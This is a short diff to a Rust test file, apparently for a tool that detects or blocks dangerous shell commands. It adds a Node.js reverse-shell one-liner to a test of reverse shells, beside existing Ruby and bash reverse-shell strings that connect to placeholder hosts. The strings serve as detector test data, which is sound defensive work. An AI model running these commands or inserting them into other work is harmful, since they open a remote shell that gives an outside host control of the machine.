@@ -270,6 +270,7 @@ fn reverse_shells() {
     );
     check("ruby -rsocket -e 'f=TCPSocket.open(\"h\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", c);
     check("sudo bash -c 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'", c);
+    check("node -e 'const s=require(\"net\").connect(1,\"h\");const sh=require(\"child_process\").spawn(\"/bin/sh\");s.pipe(sh.stdin)'", c);
 }
 
 #[test]
